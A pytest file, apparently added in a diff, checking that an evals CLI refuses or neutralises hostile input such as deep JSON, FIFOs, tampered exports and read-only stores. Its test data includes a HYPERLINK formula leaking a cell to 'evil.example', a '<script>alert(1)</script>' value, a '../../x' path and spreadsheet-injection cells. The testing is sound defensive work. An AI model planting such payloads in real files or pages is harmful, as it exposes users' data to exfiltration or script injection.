@@ -1,0 +1,1086 @@
+"""Hostile and careless input (issue 13): each case is refused with a one-line error, or made harmless.
+
+Every refused action leaves the store byte for byte as it was, and no input
+gives a traceback: the CLI prints ``Error: …`` naming the file and field and
+exits 1 (2 for a bad option, as click does).
+"""
+
+from __future__ import annotations
+
+import json
+import shutil
+from contextlib import contextmanager
+from pathlib import Path
+
+import pytest
+from click.testing import CliRunner
+
+from evals.cli import cli
+
+FIXTURES = Path(__file__).parent / "fixtures"
+CORPUS_SMALL = FIXTURES / "corpus_small"
+
+
+# -- helpers ------------------------------------------------------------------------------------
+
+
+def evals(*args: str, env: dict | None = None):
+    """``evals ARGS`` in-process; exceptions are caught, so a traceback shows as ``result.exception``."""
+    return CliRunner().invoke(cli, [str(a) for a in args], env=env)
+
+
+def one_line_error(result, exit_code: int = 1) -> str:
+    """The ``Error: …`` line of a refused command, checked to be all it printed and not a traceback."""
+    assert result.exit_code == exit_code, (result.exit_code, result.output, result.exception)
+    assert result.exception is None or isinstance(result.exception, SystemExit), result.exception
+    lines = result.output.splitlines()
+    assert len(lines) == 1 and lines[0].startswith("Error: "), result.output
+    return lines[0]
+
+
+def conversation(cid: str = "c1", **overrides) -> dict:
+    """A valid conversation (two turns, one test point) with ``overrides`` applied."""
+    data = {
+        "schema_version": "1",
+        "id": cid,
+        "description": "d",
+        "turns": [
+            {"role": "user", "content": "I use vim"},
+            {"role": "user", "content": "q", "test_at": {"question": "editor?", "expected_fact": "vim", "expected_keywords": ["vim"]}},
+        ],
+    }
+    data.update(overrides)
+    return data
+
+
+def corpus_of(folder: Path, *conversations: dict) -> Path:
+    """A corpus folder holding ``conversations``, each in the file named after its id."""
+    folder.mkdir(parents=True, exist_ok=True)
+    for data in conversations:
+        (folder / f"{data['id']}.json").write_text(json.dumps(data), encoding="utf-8")
+    return folder
+
+
+def write_json(path: Path, data) -> Path:
+    """``data`` (a string as it is, anything else as JSON) written to ``path``."""
+    path.write_text(data if isinstance(data, str) else json.dumps(data), encoding="utf-8")
+    return path
+
+
+def validate_problems(folder: Path) -> list[str]:
+    """What ``evals validate`` printed, one problem a line; it must have exited 1."""
+    result = evals("validate", folder)
+    assert result.exit_code == 1, result.output
+    assert result.exception is None or isinstance(result.exception, SystemExit), result.exception
+    return result.output.splitlines()
+
+
+def store_snapshot(path: Path) -> dict[str, bytes]:
+    """The store file and anything beside it named after it (its WAL, its cache), byte for byte."""
+    return {p.name: p.read_bytes() for p in sorted(path.parent.glob(f"{path.stem}*")) if p.is_file()}
+
+
+def stored_store(tmp_path: Path, runner: str = "no_memory") -> Path:
+    """A store holding one genuine run on corpus_small."""
+    store = tmp_path / "store" / "results.duckdb"
+    store.parent.mkdir()
+    result = evals("run", "--runner", runner, "--corpus", CORPUS_SMALL, "--store", store)
+    assert result.exit_code == 0, result.output
+    return store
+
+
+@contextmanager
+def unchanged(store: Path):
+    """Asserts that what runs inside leaves ``store`` (and the files beside it) byte for byte as it was."""
+    before = store_snapshot(store)
+    yield
+    assert store_snapshot(store) == before
+
+
+@pytest.fixture
+def store(tmp_path) -> Path:
+    """A store holding one genuine run, for refused actions to leave exactly as it was."""
+    return stored_store(tmp_path)
+
+
+# -- 3. degenerate keywords ---------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    "field, value, where",
+    [
+        ("expected_keywords", [""], "expected_keywords[0]"),
+        ("expected_keywords", ["vim", " \t"], "expected_keywords[1]"),
+        ("expected_fact", "", "expected_fact"),
+        ("expected_fact", "   ", "expected_fact"),
+    ],
+)
+def test_blank_keyword_or_fact_is_refused(tmp_path, field, value, where):
+    """An empty or whitespace-only keyword or fact (which would match every record) is a validate problem."""
+    data = conversation()
+    data["turns"][1]["test_at"][field] = value
+    if field == "expected_fact":
+        data["turns"][1]["test_at"]["expected_keywords"] = []
+    corpus = corpus_of(tmp_path / "c", data)
+    file = corpus / "c1.json"
+    assert validate_problems(corpus) == [
+        f"{file}: turns[1].test_at.{where}: must not be empty or only whitespace (it would match any record)"
+    ]
+
+
+def test_blank_keyword_no_longer_scores_no_memory_a_hit(tmp_path, store):
+    """`evals run` refuses the corpus instead of scoring no_memory's empty retrieval a hit; the store is unchanged."""
+    data = conversation()
+    data["turns"][1]["test_at"]["expected_keywords"] = [""]
+    corpus = corpus_of(tmp_path / "c", data)
+    with unchanged(store):
+        line = one_line_error(evals("run", "--runner", "no_memory", "--corpus", corpus, "--store", store))
+    assert "turns[1].test_at.expected_keywords[0]: must not be empty" in line
+
+
+def test_importers_skip_a_question_with_a_blank_answer(tmp_path):
+    """A benchmark question whose answer is blank is skipped with a note, so the imported corpus stays valid."""
+    data = json.loads((FIXTURES / "importers" / "locomo_small.json").read_text(encoding="utf-8"))
+    data[0]["qa"][0]["answer"] = "  "
+    source = write_json(tmp_path / "locomo.json", data)
+    result = evals("import-corpus", "locomo", source, "--out", tmp_path / "out")
+    assert result.exit_code == 0, result.output
+    assert "note: [0].qa[0]: the answer is empty (question skipped)" in result.output
+    assert evals("validate", tmp_path / "out").exit_code == 0
+
+
+# -- 4. validator gaps --------------------------------------------------------------------------
+
+
+def test_id_must_be_the_file_name(tmp_path):
+    """An id that differs from the file name (as corpus/README.md requires) is a problem."""
+    corpus = tmp_path / "c"
+    corpus.mkdir()
+    (corpus / "a.json").write_text(json.dumps(conversation("first")), encoding="utf-8")
+    assert validate_problems(corpus) == [
+        f"{corpus / 'a.json'}: id: 'first' differs from the file name; it must be 'a' (the file name without .json)"
+    ]
+
+
+@pytest.mark.parametrize(
+    "edit, where, suggestion",
+    [
+        (lambda d: d["turns"][1]["test_at"].update(expected_keyword=["vim"]), "turns[1].test_at.expected_keyword", "expected_keywords"),
+        (lambda d: d["turns"][1]["test_at"].update(answerabel=False), "turns[1].test_at.answerabel", "answerable"),
+        (lambda d: d.update(schema_versoin="1"), "schema_versoin", "schema_version"),
+        (lambda d: d["turns"][0].update(recrod=False), "turns[0].recrod", "record"),
+    ],
+)
+def test_unknown_field_is_refused_with_a_suggestion(tmp_path, edit, where, suggestion):
+    """A misspelled field is not silently ignored: it is named, with the field it was probably meant to be."""
+    data = conversation()
+    edit(data)
+    corpus = corpus_of(tmp_path / "c", data)
+    assert validate_problems(corpus) == [f"{corpus / 'c1.json'}: {where}: unknown field (did you mean '{suggestion}'?)"]
+
+
+def test_unknown_field_without_a_near_name(tmp_path):
+    """A field like no known one is named as unknown, listing the fields allowed there."""
+    data = conversation(notes="anything")
+    corpus = corpus_of(tmp_path / "c", data)
+    assert validate_problems(corpus) == [
+        f"{corpus / 'c1.json'}: notes: unknown field (allowed here: schema_version, id, description, turns)"
+    ]
+
+
+@pytest.mark.parametrize("role", ["system", "tool", "User", ""])
+def test_role_must_be_user_or_assistant(tmp_path, role):
+    """Roles outside user/assistant are refused at their JSON path."""
+    data = conversation()
+    data["turns"][0]["role"] = role
+    corpus = corpus_of(tmp_path / "c", data)
+    assert validate_problems(corpus) == [
+        f"{corpus / 'c1.json'}: turns[0].role: expected 'user' or 'assistant', got {role!r}"
+    ]
+
+
+def test_longmemeval_role_outside_user_assistant(tmp_path):
+    """An imported turn with another role is refused at its path in the input, not written."""
+    data = json.loads((FIXTURES / "importers" / "longmemeval_small.json").read_text(encoding="utf-8"))
+    data[0]["haystack_sessions"][0][0]["role"] = "system"
+    source = write_json(tmp_path / "lme.json", data)
+    line = one_line_error(evals("import-corpus", "longmemeval", source, "--out", tmp_path / "out"))
+    assert line == f"Error: {source}: [0].haystack_sessions[0][0].role: expected 'user' or 'assistant', got 'system'"
+    assert not (tmp_path / "out").exists()
+
+
+def test_duplicate_keys_are_refused(tmp_path):
+    """A key given twice in one object (JSON parsers silently keep one) is a problem at its path."""
+    corpus = tmp_path / "c"
+    corpus.mkdir()
+    text = json.dumps(conversation()).replace('"content": "I use vim"', '"content": "I use vim", "content": "I use emacs"')
+    (corpus / "c1.json").write_text(text, encoding="utf-8")
+    assert validate_problems(corpus) == [f"{corpus / 'c1.json'}: turns[0]: key 'content' appears twice"]
+
+
+def test_duplicate_top_level_key(tmp_path):
+    """A duplicate key at the top level is named without a path."""
+    corpus = tmp_path / "c"
+    corpus.mkdir()
+    text = json.dumps(conversation())[:-1] + ', "id": "c1"}'
+    (corpus / "c1.json").write_text(text, encoding="utf-8")
+    assert validate_problems(corpus) == [f"{corpus / 'c1.json'}: key 'id' appears twice"]
+
+
+def test_the_rules_are_documented():
+    """corpus/README.md states each new rule."""
+    readme = (Path(__file__).resolve().parent.parent / "corpus" / "README.md").read_text(encoding="utf-8")
+    for phrase in ("empty or only whitespace", "unknown field", "appears twice", "lone surrogate"):
+        assert phrase in readme, phrase
+
+
+# -- 5. tracebacks ------------------------------------------------------------------------------
+
+DEEP = "[" * 3000 + "]" * 3000
+
+
+def exported_run(tmp_path: Path, runner: str = "no_memory", corpus: Path = CORPUS_SMALL) -> dict:
+    """A genuine export of one run of ``runner`` (made in a store of its own), as a dict."""
+    source = tmp_path / "source.duckdb"
+    result = evals("run", "--runner", runner, "--corpus", corpus, "--store", source)
+    assert result.exit_code == 0, result.output
+    run_id = result.output.split("run ", 1)[1].split(":", 1)[0]
+    out = tmp_path / f"export-{run_id}.json"
+    assert evals("export", run_id, "--store", source, "--output", out).exit_code == 0
+    return json.loads(out.read_text(encoding="utf-8"))
+
+
+def test_deep_json_in_a_corpus(tmp_path):
+    """JSON nested 3,000 deep: validate names the file and the limit instead of a RecursionError."""
+    corpus = tmp_path / "c"
+    corpus.mkdir()
+    write_json(corpus / "c1.json", '{"id": "c1", "description": ' + DEEP + "}")
+    assert validate_problems(corpus) == [f"{corpus / 'c1.json'}: JSON nested more than 64 levels deep"]
+
+
+def test_deep_json_in_run(tmp_path, store):
+    """`evals run` on such a corpus: one line naming the file; the store is unchanged."""
+    corpus = tmp_path / "c"
+    corpus.mkdir()
+    write_json(corpus / "c1.json", '{"id": "c1", "description": ' + DEEP + "}")
+    with unchanged(store):
+        line = one_line_error(evals("run", "--runner", "no_memory", "--corpus", corpus, "--store", store))
+    assert line == f"Error: invalid corpus: {corpus / 'c1.json'}: JSON nested more than 64 levels deep"
+
+
+def test_deep_json_in_import(tmp_path, store):
+    """`evals import` of a file nested 3,000 deep: one line naming the file; the store is unchanged."""
+    bad = write_json(tmp_path / "deep.json", '{"run": ' + DEEP + "}")
+    with unchanged(store):
+        line = one_line_error(evals("import", bad, "--store", store))
+    assert line == f"Error: {bad}: JSON nested more than 64 levels deep"
+
+
+def test_deep_json_in_import_corpus(tmp_path):
+    """`evals import-corpus` of a file nested 3,000 deep: one line naming the file; nothing written."""
+    bad = write_json(tmp_path / "deep.json", DEEP)
+    for fmt in ("locomo", "longmemeval"):
+        line = one_line_error(evals("import-corpus", fmt, bad, "--out", tmp_path / "out"))
+        assert line == f"Error: {bad}: JSON nested more than 64 levels deep"
+    assert not (tmp_path / "out").exists()
+
+
+@pytest.mark.parametrize("command", ["validate", "import", "import-corpus"])
+def test_huge_integer(tmp_path, store, command):
+    """An integer of 5,000 digits is refused naming the file, wherever JSON is read."""
+    digits = "9" * 5000
+    if command == "validate":
+        corpus = tmp_path / "c"
+        corpus.mkdir()
+        write_json(corpus / "c1.json", json.dumps(conversation())[:-1] + f', "x": {digits}}}')
+        assert validate_problems(corpus) == [f"{corpus / 'c1.json'}: a number of 5000 digits; at most 20 are read"]
+        return
+    bad = write_json(tmp_path / "big.json", f'[{{"n": {digits}}}]')
+    if command == "import":
+        with unchanged(store):
+            line = one_line_error(evals("import", bad, "--store", store))
+    else:
+        line = one_line_error(evals("import-corpus", "locomo", bad, "--out", tmp_path / "out"))
+    assert line == f"Error: {bad}: a number of 5000 digits; at most 20 are read"
+
+
+def test_lone_surrogate_is_refused_by_validate(tmp_path):
+    """A lone surrogate escape ("\\ud800") is refused by validate at its JSON path."""
+    corpus = tmp_path / "c"
+    corpus.mkdir()
+    write_json(corpus / "c1.json", json.dumps(conversation()).replace("I use vim", "I use \\ud800 vim"))
+    assert validate_problems(corpus) == [
+        f"{corpus / 'c1.json'}: turns[0].content: holds a lone surrogate (\\ud800), which is not a character"
+    ]
+
+
+def test_lone_surrogate_does_not_crash_run(tmp_path, store):
+    """`evals run` refuses the same corpus in one line instead of crashing; the store is unchanged."""
+    corpus = tmp_path / "c"
+    corpus.mkdir()
+    write_json(corpus / "c1.json", json.dumps(conversation()).replace("I use vim", "I use \\ud800 vim"))
+    with unchanged(store):
+        line = one_line_error(evals("run", "--runner", "mneme", "--corpus", corpus, "--store", store))
+    assert "turns[0].content: holds a lone surrogate" in line
+
+
+def test_surrogate_pairs_are_characters(tmp_path):
+    """An escaped surrogate pair (an emoji, as json.dumps writes it) is one character, and valid."""
+    corpus = corpus_of(tmp_path / "c", conversation(description="\U0001f600 fine"))
+    assert "\\ud83d\\ude00" in (corpus / "c1.json").read_text()
+    assert evals("validate", corpus).exit_code == 0
+
+
+def test_symlink_to_dev_zero_is_not_read(tmp_path):
+    """A corpus file that is a link to /dev/zero is refused as not a regular file, without reading it."""
+    corpus = corpus_of(tmp_path / "c", conversation())
+    (corpus / "zero.json").symlink_to("/dev/zero")
+    assert validate_problems(corpus) == [
+        f"{corpus / 'zero.json'}: not a regular file (a character device); only regular files are read"
+    ]
+
+
+def test_fifo_does_not_hang(tmp_path):
+    """A FIFO named like a corpus file is refused at once instead of waiting for a writer."""
+    import os
+
+    corpus = corpus_of(tmp_path / "c", conversation())
+    os.mkfifo(corpus / "pipe.json")
+    assert validate_problems(corpus) == [f"{corpus / 'pipe.json'}: not a regular file (a FIFO); only regular files are read"]
+
+
+def test_file_size_is_bounded(tmp_path, monkeypatch):
+    """A corpus file larger than the limit is refused before it is read, saying both sizes."""
+    from evals import jsonfile
+
+    monkeypatch.setattr(jsonfile, "MAX_CORPUS_FILE_BYTES", 100)
+    corpus = corpus_of(tmp_path / "c", conversation())
+    size = (corpus / "c1.json").stat().st_size
+    assert validate_problems(corpus) == [f"{corpus / 'c1.json'}: {size} bytes; files over 100 bytes are not read"]
+
+
+def test_import_of_a_fifo_does_not_hang(tmp_path, store):
+    """`evals import` of a FIFO: refused at once; the store is unchanged."""
+    import os
+
+    pipe = tmp_path / "pipe.json"
+    os.mkfifo(pipe)
+    with unchanged(store):
+        line = one_line_error(evals("import", pipe, "--store", store))
+    assert line == (
+        f"Error: {pipe}: not a regular file (a FIFO); only regular files are read"
+    )
+
+
+def test_serve_on_a_busy_port(tmp_path):
+    """`evals serve` on a port already taken: one line saying so, not an OSError traceback."""
+    import socket
+
+    site = tmp_path / "site"
+    site.mkdir()
+    with socket.socket() as taken:
+        taken.bind(("127.0.0.1", 0))
+        taken.listen()
+        port = taken.getsockname()[1]
+        line = one_line_error(evals("serve", "--dir", site, "--port", str(port)))
+    assert line.startswith(f"Error: cannot serve on 127.0.0.1:{port}: ") and "--port" in line
+
+
+# -- 1. imports are checked ---------------------------------------------------------------------
+
+
+def tampered(document: dict) -> dict:
+    """``document`` with one turn of its transcript edited, its corpus digest left as it was."""
+    turns = document["run"]["conversations"][0]["turns"]
+    turns[0]["content"] = "<b>an edited turn</b> " + turns[0]["content"]
+    return document
+
+
+def refused_import(store: Path, document: dict, tmp_path: Path) -> str:
+    """Import ``document`` into ``store``: it must be refused in one line with the store unchanged."""
+    before = store_snapshot(store) if store.exists() else None
+    path = write_json(tmp_path / "import.json", document)
+    line = one_line_error(evals("import", path, "--store", store))
+    assert (store_snapshot(store) if store.exists() else None) == before
+    return line
+
+
+def test_edited_transcript_is_refused_after_a_genuine_run(tmp_path):
+    """An export whose transcript was edited (digest kept) is refused: recomputing the digest shows the edit."""
+    store = stored_store(tmp_path)
+    document = tampered(exported_run(tmp_path))
+    line = refused_import(store, document, tmp_path)
+    digest = document["run"]["corpus_digest"]
+    assert line.startswith(f"Error: {tmp_path / 'import.json'}: run.corpus_digest {digest[:12]}… does not match")
+    assert line.endswith("the file was altered, so it is not imported")
+
+
+def test_edited_transcript_is_refused_into_an_empty_store(tmp_path):
+    """In the other order (the edit first) it is refused too, so a later genuine run shows genuine text."""
+    store = tmp_path / "empty" / "results.duckdb"
+    store.parent.mkdir()
+    line = refused_import(store, tampered(exported_run(tmp_path)), tmp_path)
+    assert "does not match the file's conversations" in line
+    assert not store.exists()
+
+
+def test_corpus_stored_under_the_digest_must_be_identical(tmp_path):
+    """A store that already holds different text under a digest (an import made before imports were
+    checked) refuses a genuine import of that digest instead of mixing the two."""
+    from dataclasses import replace
+
+    from evals.exchange import read_export
+    from evals.store import Store
+
+    document = exported_run(tmp_path)
+    genuine = write_json(tmp_path / "genuine.json", document)
+    record = read_export(genuine)
+    edited = record.conversations[0].model_copy(deep=True)
+    edited.turns[0].content = "an edited turn"
+    forged = replace(record, conversations=[edited, *record.conversations[1:]])
+    forged = replace(forged, summary=replace(forged.summary, run_id="0123456789ab"))
+    store = tmp_path / "old" / "results.duckdb"
+    store.parent.mkdir()
+    with Store.open(store) as opened:
+        opened.write_records([forged])
+    line = refused_import(store, document, tmp_path)
+    cid = record.conversations[0].id
+    assert line == (
+        f"Error: {tmp_path / 'import.json'}: run {record.summary.run_id} is on corpus {document['run']['corpus_digest'][:12]}, "
+        f"but the store holds different text under that digest (conversation {cid!r}, turn 0); refusing to mix them"
+    )
+
+
+@pytest.mark.parametrize(
+    "edit, expected",
+    [
+        (lambda d: d["run"].update(timestamp="9999-12-31T00:00:00+00:00"), "run.timestamp: 9999-12-31T00:00:00+00:00 is in the future"),
+        (lambda d: d.update(k=-5), "k: must be at least 1, got -5"),
+        (lambda d: d.update(k=2**31), "k: must be at most 2147483647, got 2147483648"),
+        (lambda d: d.update(seed=2**63), "seed: must be at most 9223372036854775807, got 9223372036854775808"),
+        (lambda d: d["run"].update(duration_s=-1.0), "run.duration_s: must be at least 0, got -1.0"),
+        (lambda d: d["run"].update(corpus_digest="zz"), "run.corpus_digest: expected a sha256 (64 lower-case hex digits), got 'zz'"),
+        (lambda d: d["run"].update(run_id="../../x"), "run.run_id: expected a run id (12 lower-case hex digits), got '../../x'"),
+        (
+            lambda d: d["run"].update(commit="<script>alert(1)</script>"),
+            "run.commit: expected a git commit (40 or 64 lower-case hex digits) or 'no-git', got '<script>alert(1)</script>'",
+        ),
+        (lambda d: d["run"]["conversations"][0]["test_points"][0].update(record_tokens=[-3]), "run.conversations[0].test_points[0].record_tokens[0]: must be at least 0, got -3"),
+        (lambda d: d["run"].update(cache_hits=-1), "run.cache_hits: must be at least 0, got -1"),
+    ],
+)
+def test_out_of_range_fields_are_refused(tmp_path, edit, expected):
+    """Each field of an export is range-checked; a bad one refuses the whole import, naming file and field."""
+    store = stored_store(tmp_path)
+    document = exported_run(tmp_path)
+    edit(document)
+    line = refused_import(store, document, tmp_path)
+    assert line.startswith(f"Error: {tmp_path / 'import.json'}: not a valid evals export: {expected}"), line
+
+
+def test_nan_duration_is_refused(tmp_path):
+    """``duration_s: NaN`` (which Python's json accepts) is refused at its path."""
+    store = stored_store(tmp_path)
+    document = exported_run(tmp_path)
+    path = tmp_path / "import.json"
+    text = json.dumps(document).replace(f'"duration_s": {json.dumps(document["run"]["duration_s"])}', '"duration_s": NaN')
+    assert "NaN" in text
+    path.write_text(text, encoding="utf-8")
+    before = store_snapshot(store)
+    assert one_line_error(evals("import", path, "--store", store)) == f"Error: {path}: NaN is not a number JSON allows"
+    assert store_snapshot(store) == before
+
+
+def test_answers_are_range_checked(tmp_path):
+    """An export's answers are checked as well: a negative token count is refused."""
+    from evals.exchange import read_export
+    from evals.store import StoreError
+
+    document = exported_run(tmp_path)
+    document["answers"] = {"answer_model": "m", "judge_model": None, "base_url": "http://x", "settings": {}}
+    document["metrics"]["answers"] = {"requests_made": 0, "requests_cached": 0, "prompt_tokens": 0, "completion_tokens": 0}
+    for conversation in document["conversations"]:
+        for point in conversation["test_points"]:
+            point["answer"] = {"answer": "a", "prompt_tokens": -1, "completion_tokens": 0, "latency_s": 0.1, "keyword_hit": False}
+    path = write_json(tmp_path / "import.json", document)
+    with pytest.raises(StoreError, match=r"conversations\[0\]\.test_points\[0\]\.answer\.prompt_tokens: must be at least 0, got -1"):
+        read_export(path)
+
+
+def test_genuine_exports_of_every_golden_run_still_import(tmp_path):
+    """Every run of the schema-5 golden store (written by an earlier version) exports and imports
+    unchanged: the recomputed digest matches what that version stored."""
+    import gzip
+
+    from evals.exchange import export_document
+    from evals.store import Store
+
+    old = tmp_path / "schema5.duckdb"
+    with gzip.open(FIXTURES / "stores" / "schema5.duckdb.gz") as packed, old.open("wb") as out:
+        shutil.copyfileobj(packed, out)
+    Store.upgrade(old)
+    with Store.open(old, read_only=True) as store:
+        documents = [export_document(store.get_run(s.run_id)) for s in store.runs()]
+    paths = [write_json(tmp_path / f"run{i}.json", d) for i, d in enumerate(documents)]
+    result = evals("import", *paths, "--store", tmp_path / "new.duckdb")
+    assert result.exit_code == 0, result.output
+    assert result.output.count("imported run") == len(documents) == 5
+
+
+# -- 2. CSV formula injection -------------------------------------------------------------------
+
+FORMULA = '=HYPERLINK("evil.example?leak="&A1,"click")'  # a folder name: no slash
+
+
+def csv_rows(text: str) -> list[dict[str, str]]:
+    import csv
+    import io
+
+    return list(csv.DictReader(io.StringIO(text)))
+
+
+@pytest.fixture
+def formula_store(tmp_path):
+    """A store with one run on a corpus whose folder name is a formula, category '@SUM(1)', seed -7."""
+    data = conversation()
+    data["turns"][1]["test_at"]["category"] = "@SUM(1)"
+    corpus = corpus_of(tmp_path / FORMULA, data)
+    store = tmp_path / "results.duckdb"
+    result = evals("run", "--runner", "no_memory", "--corpus", corpus, "--store", store, "--seed", "-7")
+    assert result.exit_code == 0, result.output
+    return store
+
+
+def test_site_leaderboard_csv_cells_are_neutralised(formula_store, tmp_path):
+    """site/leaderboard.csv writes a formula-like corpus name with a leading quote; numbers stay numbers."""
+    result = evals("build-site", "--store", formula_store, "--out", tmp_path / "site")
+    assert result.exit_code == 0, result.output
+    (row,) = csv_rows((tmp_path / "site" / "leaderboard.csv").read_text(encoding="utf-8"))
+    assert row["corpus_name"] == "'" + FORMULA
+    assert row["recall"] == "0.0" and row["k"] == "5"
+
+
+@pytest.mark.parametrize("command", [["runs"], ["leaderboard"]])
+def test_cli_csv_cells_are_neutralised(formula_store, command):
+    """`evals runs|leaderboard --format csv`: text cells that start like a formula are neutralised, numbers are not."""
+    result = evals(*command, "--format", "csv", "--store", formula_store)
+    assert result.exit_code == 0, result.output
+    (row,) = csv_rows(result.output)
+    assert row["corpus_name"] == "'" + FORMULA
+    assert row["seed"] == "-7" and row["recall"] == "0.0"
+
+
+def test_by_category_csv_cells_are_neutralised(formula_store):
+    """`evals leaderboard --by-category --format csv`: a category '@SUM(1)' is written as text."""
+    result = evals("leaderboard", "--by-category", "--format", "csv", "--store", formula_store)
+    assert result.exit_code == 0, result.output
+    (row,) = csv_rows(result.output)
+    assert row["category"] == "'@SUM(1)" and row["corpus"] == "'" + FORMULA
+
+
+def test_judge_model_csv_cell_is_neutralised(tmp_path):
+    """A --judge-model that reads as a formula is written as text in `runs --format csv` and leaderboard.csv."""
+    from llm_server import LLMServer
+
+    store = tmp_path / "results.duckdb"
+    with LLMServer() as server:
+        result = evals(
+            "run", "--runner", "recency", "--corpus", CORPUS_SMALL, "--store", store, "--base-url", server.base_url,
+            "--judge", "--judge-model", "+SUM(1)", env={"EVALS_LLM_BACKOFF": "0.01", "OPENAI_API_KEY": "sk-unused-0000"},
+        )
+    assert result.exit_code == 0, result.output
+    (row,) = csv_rows(evals("runs", "--format", "csv", "--store", store).output)
+    assert row["judge_model"] == "'+SUM(1)"
+    assert evals("build-site", "--store", store, "--out", tmp_path / "site").exit_code == 0
+    (row,) = csv_rows((tmp_path / "site" / "leaderboard.csv").read_text(encoding="utf-8"))
+    assert row["judge_model"] == "'+SUM(1)"
+
+
+@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@A1", "\tx", "\rx"])
+def test_csv_cell_rule(text):
+    """OWASP's rule: a text cell starting with = + - @ tab or CR gets a leading quote; numbers never."""
+    from evals.formatting import csv_cell
+
+    assert csv_cell(text) == "'" + text
+    assert csv_cell(-1) == -1 and csv_cell(-0.5) == -0.5 and csv_cell("plain") == "plain" and csv_cell(None) is None
+
+
+# -- 6. late failures ---------------------------------------------------------------------------
+
+
+def forbid_work(monkeypatch) -> None:
+    """From now on, computing a run fails the test: the refusal must come before any work."""
+    import evals.workflow
+
+    def refuse(*args, **kwargs):
+        raise AssertionError("the run was computed before the problem was found")
+
+    monkeypatch.setattr(evals.workflow, "evaluate", refuse)
+
+
+@pytest.fixture
+def no_work(monkeypatch):
+    """:func:`forbid_work` for the whole test."""
+    forbid_work(monkeypatch)
+
+
+def chattr(flag: str, path: Path) -> bool:
+    import subprocess
+
+    return shutil.which("chattr") is not None and subprocess.run(["chattr", flag, str(path)], capture_output=True).returncode == 0
+
+
+def test_immutable_store_fails_before_the_run(tmp_path, monkeypatch):
+    """An immutable store file (chattr +i) is refused before anything is computed, in one line."""
+    store = stored_store(tmp_path)
+    forbid_work(monkeypatch)
+    if not chattr("+i", store):
+        pytest.skip("chattr +i is not available here (needs root and a file system that supports it)")
+    try:
+        before = store_snapshot(store)
+        line = one_line_error(evals("run", "--runner", "mneme", "--corpus", CORPUS_SMALL, "--store", store, "--force"))
+        assert line == f"Error: cannot write to store {store}: Operation not permitted"
+        assert store_snapshot(store) == before
+    finally:
+        chattr("-i", store)
+
+
+def test_read_only_store_fails_before_the_run(tmp_path, monkeypatch):
+    """A store file without write permission is refused before anything is computed (even for root,
+    who could write it: read-only is taken as meant)."""
+    store = stored_store(tmp_path)
+    forbid_work(monkeypatch)
+    store.chmod(0o444)
+    try:
+        before = store_snapshot(store)
+        line = one_line_error(evals("run", "--runner", "mneme", "--corpus", CORPUS_SMALL, "--store", store, "--force"))
+        assert line == f"Error: store {store} is read-only (mode 444); make it writable (chmod u+w), or give another --store"
+        assert store_snapshot(store) == before
+    finally:
+        store.chmod(0o644)
+
+
+def test_read_only_cache_fails_before_the_run(tmp_path, monkeypatch):
+    """A read-only cache file beside the store is refused before the run, pointing at --no-cache."""
+    from evals.cache import Cache, cache_path_for
+
+    store = stored_store(tmp_path)
+    cache = cache_path_for(store)
+    with Cache.open(cache) as made:
+        made.put("test:x", "key", b"value")
+    forbid_work(monkeypatch)
+    cache.chmod(0o444)
+    try:
+        line = one_line_error(evals("run", "--runner", "mneme", "--corpus", CORPUS_SMALL, "--store", store, "--force"))
+        assert line == f"Error: cache {cache} is read-only (mode 444); make it writable (chmod u+w), or run with --no-cache"
+    finally:
+        cache.chmod(0o644)
+
+
+@pytest.mark.parametrize(
+    "option, value, expected",
+    [
+        ("--k", "2147483648", "Invalid value for '--k': 2147483648 is not in the range 1<=x<=2147483647."),
+        ("--k", "0", "Invalid value for '--k': 0 is not in the range 1<=x<=2147483647."),
+        ("--seed", str(2**63), f"Invalid value for '--seed': {2**63} is not in the range {-(2**63)}<=x<={2**63 - 1}."),
+        ("--concurrency", "100000", "Invalid value for '--concurrency': 100000 is not in the range 1<=x<=256."),
+        ("--max-retries", "1000", "Invalid value for '--max-retries': 1000 is not in the range 0<=x<=100."),
+        ("--request-timeout", "nan", "Invalid value for '--request-timeout': nan is not a finite number of seconds."),
+        ("--request-timeout", "inf", "Invalid value for '--request-timeout': inf is not a finite number of seconds."),
+        ("--request-timeout", "1e9", "Invalid value for '--request-timeout': 1000000000.0 is not in the range 0<x<=3600."),
+    ],
+)
+def test_numeric_options_are_checked_before_any_work(store, monkeypatch, option, value, expected):
+    """An out-of-range number is refused by the option parser, before a store is opened or a run computed."""
+    forbid_work(monkeypatch)
+    with unchanged(store):
+        result = evals("run", "--runner", "no_memory", "--corpus", CORPUS_SMALL, "--store", store, option, value)
+    assert result.exit_code == 2, result.output
+    assert result.output.splitlines()[-1] == f"Error: {expected}"
+
+
+def test_jobs_is_bounded(tmp_path):
+    """build-site --jobs is checked like the other numbers."""
+    result = evals("build-site", "--store", tmp_path / "s.duckdb", "--out", tmp_path / "site", "--jobs", "100000")
+    assert result.exit_code == 2 and "100000 is not in the range 1<=x<=64" in result.output
+
+
+@pytest.mark.parametrize("value", ["nan", "-1", "inf", "1e6"])
+def test_backoff_variable_is_checked(store, value):
+    """$EVALS_LLM_BACKOFF must be a finite number of seconds, 0 to 60, or the run is refused at once."""
+    with unchanged(store):
+        result = evals(
+            "run", "--runner", "no_memory", "--corpus", CORPUS_SMALL, "--store", store, "--with-answers", "--force",
+            "--base-url", "http://127.0.0.1:9/v1", env={"EVALS_LLM_BACKOFF": value},
+        )
+    assert one_line_error(result) == f"Error: EVALS_LLM_BACKOFF must be a number of seconds from 0 to 60, not {value!r}"
+
+
+def test_run_config_bounds_k():
+    """RunConfig, what the CLI builds, refuses the same k the store could not hold."""
+    from pydantic import ValidationError
+
+    from evals.evaluate import RunConfig
+
+    with pytest.raises(ValidationError):
+        RunConfig(k=2**31)
+
+
+def test_import_into_a_read_only_store_fails_before_reading(tmp_path):
+    """`evals import` into a read-only store is refused before the files are read."""
+    store = stored_store(tmp_path)
+    store.chmod(0o444)
+    try:
+        line = one_line_error(evals("import", tmp_path / "does-not-matter.json", "--store", store))
+        assert line == f"Error: store {store} is read-only (mode 444); make it writable (chmod u+w), or give another --store"
+    finally:
+        store.chmod(0o644)
+
+
+# -- 7. build-site --out must not hold the store ------------------------------------------------
+
+
+def test_build_site_refuses_an_out_holding_the_store(tmp_path):
+    """The CI pattern gone wrong: the store restored into the site's data/ folder and the site rebuilt
+    over it would delete the store's cache of paid replies. Refused; nothing changes."""
+    from evals.cache import Cache, cache_path_for
+
+    first = stored_store(tmp_path)
+    site = tmp_path / "site"
+    assert evals("build-site", "--store", first, "--out", site).exit_code == 0
+    store = site / "data" / "results.duckdb"
